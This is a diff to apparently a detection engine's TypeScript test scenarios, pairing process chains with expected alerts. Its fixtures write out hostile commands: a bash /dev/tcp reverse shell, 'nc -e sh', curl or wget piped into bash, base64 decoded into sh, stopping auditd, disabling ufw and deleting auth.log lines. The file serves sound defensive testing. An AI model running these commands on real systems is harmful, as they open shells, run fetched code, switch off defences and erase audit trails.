@@ -91,7 +91,7 @@ export const REAL: readonly Scenario[] = [
   },
   {
     says: 'bash opens a connection and gives itself to it',
-    chain: ['worker', ['/bin/bash', '-c', 'exec 2>/dev/null 3<>/dev/tcp/127.0.0.1/9; exit 0']],
+    chain: ['worker', ['/bin/bash', '-c', 'exec 2>/dev/null 3<>/dev/tcp/127.0.0.1/9 0<&3; exit 0']],
     found: ['reverse_shell'],
   },
   { says: 'nc with a program', chain: ['worker', 'nc -e /bin/sh 127.0.0.1 9'], found: ['reverse_shell'] },
@@ -121,6 +121,16 @@ export const REAL: readonly Scenario[] = [
     spared: ['reverse_shell'],
   },
   {
+    says: 'bash sees whether a port is open, and asks this host for its health',
+    chain: [
+      'worker',
+      ['/bin/bash', '-c', 'exec 2>/dev/null; (: </dev/tcp/127.0.0.1/9); exec 3<>/dev/tcp/127.0.0.1/9; exit 0'],
+    ],
+    found: [],
+    spared: ['reverse_shell'],
+  },
+  { says: 'nc with a shell by its name', chain: ['worker', 'nc -e sh 127.0.0.1 9'], found: ['reverse_shell'] },
+  {
     says: 'python asks a server',
     chain: ['worker', ['python3', '-c', 'import socket;socket.create_connection(("127.0.0.1",9))']],
     found: [],
@@ -132,6 +142,20 @@ export const REAL: readonly Scenario[] = [
     found: ['download_piped_to_shell'],
   },
   {
+    says: 'a daemon’s command loads with what is there, and pipes it into a shell of its own rights',
+    chain: [
+      'agent',
+      ['/bin/sh', '-c', '(BIN/curl -s http://127.0.0.1:9/i||BIN/wget http://127.0.0.1:9/i)|/usr/bin/env bash -s x'],
+    ],
+    found: ['download_piped_to_shell'],
+  },
+  {
+    says: 'a daemon’s command looks for a word in a download, and tries something else where it is not',
+    chain: ['agent', ['/bin/sh', '-c', 'BIN/curl -s http://127.0.0.1:9/_cat | grep shards || /bin/sh -c :']],
+    found: [],
+    spared: ['download_piped_to_shell'],
+  },
+  {
     says: 'a daemon’s command saves a download',
     chain: ['agent', ['/bin/sh', '-c', 'BIN/curl -fsSL http://127.0.0.1:9/i | cat > /dev/null']],
     found: [],
@@ -141,6 +165,15 @@ export const REAL: readonly Scenario[] = [
     says: 'a command decodes a script into a shell',
     chain: ['agent', ['/bin/sh', '-c', 'echo Og== | base64 -d | sh']],
     found: ['decoded_text_piped_to_shell'],
+  },
+  {
+    says: 'a command takes a sum of what it decodes',
+    chain: [
+      'agent',
+      ['/bin/sh', '-c', 'echo Og== | base64 -d | sha256sum; echo Og== | base64 -d | python3 -m json.tool'],
+    ],
+    found: [],
+    spared: ['decoded_text_piped_to_shell'],
   },
   {
     says: 'a command decodes a certificate into a file',
@@ -276,6 +309,11 @@ export const REAL: readonly Scenario[] = [
     chain: ['login', 'crontab -e'],
     found: [],
     spared: ['cron_changed_by_service'],
+  },
+  {
+    says: 'a database starts a unit by the script of old',
+    chain: ['redis-server', ['/bin/sh', '/usr/sbin/service', 'x-of-nobody', 'start']],
+    found: ['unit_changed_by_service', 'interpreter_under_database'],
   },
   {
     says: 'a database enables a unit',
@@ -564,6 +602,22 @@ export const LOGGED: readonly Scenario[] = [
     found: ['defences_switched_off'],
   },
   {
+    says: 'in a session by ssh, auditing is stopped by the script that systemctl leaves it to',
+    chain: [...session(0), '/usr/bin/bash /sbin/service auditd stop'],
+    found: ['defences_switched_off'],
+  },
+  {
+    says: 'in a session by ssh, the firewall is switched off',
+    chain: [...session(0), '/usr/bin/python3.11 /usr/sbin/ufw disable'],
+    found: ['defences_switched_off'],
+  },
+  {
+    says: 'in a session by ssh, somebody asks how the firewall is',
+    chain: [...session(0), '/usr/bin/python3.11 /usr/sbin/ufw status', '/usr/bin/bash /sbin/service auditd status'],
+    found: [],
+    spared: ['defences_switched_off'],
+  },
+  {
     says: 'the firewall is loaded at the boot',
     chain: ['/usr/sbin/firewall-init', 'iptables -F'],
     found: [],
@@ -579,6 +633,28 @@ export const LOGGED: readonly Scenario[] = [
     says: 'in a session by ssh, the history goes',
     chain: [...session(1000), 'rm -f /home/x/.bash_history'],
     found: ['traces_removed'],
+  },
+  {
+    says: 'in a session by ssh, lines are taken out of a log',
+    chain: [...session(1000), ['sed', '-i', '/203.0.113/d', '/var/log/auth.log']],
+    found: ['traces_removed'],
+  },
+  {
+    says: 'in a session by ssh, lines of a log are looked at, and a copy is kept',
+    chain: [...session(1000), ['sed', '-n', '1,9p', '/var/log/syslog'], 'cp -a /var/log/syslog /root'],
+    found: [],
+    spared: ['traces_removed'],
+  },
+  {
+    says: 'files for a day are tidied up at the boot',
+    chain: ['/usr/bin/systemd-tmpfiles --remove', 'rm /var/log/wtmp'],
+    found: [],
+    spared: ['traces_removed'],
+  },
+  {
+    says: 'a web server whose file an upgrade has replaced runs a shell',
+    chain: [['/usr/sbin/nginx (deleted)'], 'php-fpm', ['sh', '-c', 'x']],
+    found: ['shell_under_web_server', 'deleted_file_executed'],
   },
   {
     says: 'logrotate empties a log',
